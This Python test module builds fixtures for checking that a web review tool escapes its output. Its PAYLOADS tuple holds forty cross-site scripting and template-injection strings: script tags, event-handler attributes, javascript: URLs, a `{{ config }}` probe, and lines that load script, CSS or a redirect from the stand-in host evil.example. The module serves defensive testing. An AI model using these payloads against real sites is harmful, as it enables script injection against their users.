"""Forty texts that are dangerous where a page forgets to escape, and a review that has them in every field."""

from tests.making import NOON, a_parsed_document, a_passage, a_recommendation, a_section
from tests.web.shelf import a_claim, an_extract
from wsr.domain.coding import Coding, Decision, Extract, Reason, Stance, Verdict
from wsr.domain.kinds import PassageKind, SectionKind
from wsr.domain.passages import DocumentWarning, Place
from wsr.domain.review import ParsedDocument

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)//",
    "{{ 7 * 7 }}{% set x = 1 %}{{ config }}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; %3Cscript%3E",
)
MARKER = "payload"
"""A word beside each text, to find it by."""


def a_hostile_report() -> ParsedDocument:
    """A report whose every text is one of the forty, or all of them."""
    everything = " ".join(PAYLOADS)
    kinds = list(PassageKind)
    return a_parsed_document(
        sections=tuple(
            a_section(n, f"{text} {n}", SectionKind.ANALYSIS).model_copy(update={"number": text})
            for n, text in enumerate(PAYLOADS)
        ),
        passages=tuple(
            a_passage(n, f"{MARKER} {text}", f"s{n - 1}", kind=kinds[n % len(kinds)]).model_copy(
                update={"number": text}
            )
            for n, text in enumerate(PAYLOADS, start=1)
        ),
        recommendations=tuple(
            a_recommendation(n, f"{text} {n}", label=text, addressees=(text,), places=(PLACE,))
            for n, text in enumerate(PAYLOADS, start=1)
        ),
        claims=(
            a_claim("title", everything),
            a_claim("board_reference", everything, quote=everything),
            *(a_claim("subjects", text) for text in PAYLOADS),
            *(a_claim("authors", text, quote=f"by {text}") for text in PAYLOADS),
        ),
        coded_agencies=PAYLOADS,
        warnings=tuple(DocumentWarning(kind="odd", detail=text) for text in PAYLOADS),
    )


PLACE = Place(document="d1", section="s0", page=1)


def hostile_extracts() -> tuple[tuple[Extract, ...], dict[str, Decision]]:
    """An extract in every passage, its rules, terms and codes each one of the forty; every other one decided so."""
    found = tuple(
        an_extract(
            passage,
            text,
            Stance.IDENTIFIED,
            terms=(text,),
            term_counts=(1,),
            stance_because=(Reason(rule=text.replace(": ", ":"), words=text),),
            codes=(Coding(theme=text, subtheme=text, because=(Reason(rule="cue", words=text),)),),
        )
        for passage, text in zip(a_hostile_report().passages, PAYLOADS, strict=True)
    )
    decided = {
        extract.key: Decision(
            person=extract.text,
            decided_at=NOON,
            verdict=Verdict.KEEP,
            stance=Stance.CRITICISM,
            codes=(f"{extract.text}/{extract.text}",),
            note=extract.text,
        )
        for extract in found[::2]
    }
    return found, decided
